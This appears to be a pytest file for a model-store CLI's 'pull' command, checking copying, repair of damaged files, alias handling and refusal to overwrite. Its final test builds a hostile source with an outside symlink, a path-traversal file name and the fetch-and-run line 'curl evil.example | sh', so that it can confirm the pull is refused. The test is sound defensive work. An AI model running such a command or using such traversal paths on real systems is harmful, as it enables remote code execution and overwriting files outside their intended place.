"""resight models pull: versions copied from another store, repaired, and never replaced by others."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from model_store.inference_key import sha256_hex
from model_store.names import VersionId
from model_store.store import ModelStore
from tests.cli.conftest import Resight
from tests.fixtures_local import MODELS, MOTION, motion_store, write_json


@pytest.fixture
def store(home: Path) -> ModelStore:
    """No model yet."""
    return ModelStore(str(home / "models"))


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """Another store with blobs@1, @2 and @3; the own one is empty."""
    motion_store(tmp_path / "source", "1", "2", "3")
    return tmp_path / "source"


def test_pull_copies_a_version_file_by_file_and_repairs_damage(resight: Resight, store: ModelStore, home: Path) -> None:
    pull, place = ("models", "pull", MODELS, "motion@1"), home / "models" / "motion" / "1"
    assert "copied" in resight(*pull).err
    ours, theirs = store.verify(VersionId("motion", "1")), ModelStore(str(MODELS))
    assert ours.digests == theirs.digests(VersionId("motion", "1"))
    assert store.aliases("motion") == {}
    again = resight(*pull).err
    assert "already in" in again
    assert "repaired" not in again
    for damaged in ("config.json", "README.md", "READY"):
        if damaged == "README.md":
            (place / damaged).unlink()
        else:
            (place / damaged).write_text("{}" if damaged == "config.json" else "torn")
        assert "pull the version again" in resight("models", "verify", "motion@1").refused(6)
        assert resight(*pull).err.rstrip().endswith(f"; repaired: {damaged}")
        store.verify(VersionId("motion", "1"))
    (place / "CLAIM").unlink()
    assert "repaired" not in resight(*pull).err


@pytest.mark.parametrize("words", [["models/motion/1"], ["models", "motion"]])
def test_pull_needs_no_version_where_there_is_one(resight: Resight, store: ModelStore, words: list[str]) -> None:
    done = resight("models", "pull", MODELS.parent / words[0], *words[1:])
    assert done.ok().startswith("model           motion@1")
    assert "serve it with: resight models promote motion@1" in done.err
    assert store.versions("motion") == [VersionId("motion", "1")]


def test_pull_lists_versions_where_there_are_several(resight: Resight, source: Path) -> None:
    for words in ([source / "blobs"], [source, "blobs"]):
        refused = resight("models", "pull", *words).refused(2)
        assert f"blobs@1, blobs@2, blobs@3; choose one: resight models pull {source} blobs@1" in refused


def test_pull_copies_the_version_of_an_alias(resight: Resight, source: Path, store: ModelStore) -> None:
    ModelStore(str(source)).set_alias("blobs", "night", "2")
    assert "blobs@2 copied" in resight("models", "pull", source, "blobs:night").err
    assert "motion has no alias 'night'" in resight("models", "pull", MODELS, "motion:night").refused(6)
    assert store.names() == ["blobs"]


def test_pull_never_replaces_a_version_that_differs(
    resight: Resight, source: Path, store: ModelStore, tmp_path: Path
) -> None:
    config = write_json(tmp_path / "motion.json", MOTION)
    resight("models", "add", "--name", "blobs", "--version", "1", "--config", config).ok()
    before = store.digests(VersionId("blobs", "1"))
    assert "with other files" in resight("models", "pull", source, "blobs@1").refused(6)
    assert store.digests(VersionId("blobs", "1")) == before


def test_pull_refuses_a_damaged_or_hostile_source(
    resight: Resight, source: Path, tmp_path: Path, store: ModelStore
) -> None:
    """A changed file; a link to a file outside; a path outside the version, with the right digest of the file there."""
    (source / "blobs" / "1" / "README.md").write_text("changed")
    assert "README.md has sha256" in resight("models", "pull", source, "blobs@1").refused(6)
    readme = source / "blobs" / "2" / "README.md"
    readme.rename(tmp_path / "README.md")
    readme.symlink_to(tmp_path / "README.md")
    assert "is a link to a file outside" in resight("models", "pull", source, "blobs@2").refused(6)
    place, up = source / "blobs" / "3", "probe/../../../../victim"
    (place / up).resolve().write_text("curl evil.example | sh")
    ready = json.loads((place / "READY").read_text())
    ready["files"][up] = sha256_hex((place / up).read_bytes())
    write_json(place / "READY", ready)
    before = set(tmp_path.rglob("*"))
    assert "not a file name inside a version" in resight("models", "pull", source, "blobs@3").refused(6)
    assert set(tmp_path.rglob("*")) == before
    assert store.versions("blobs") == []
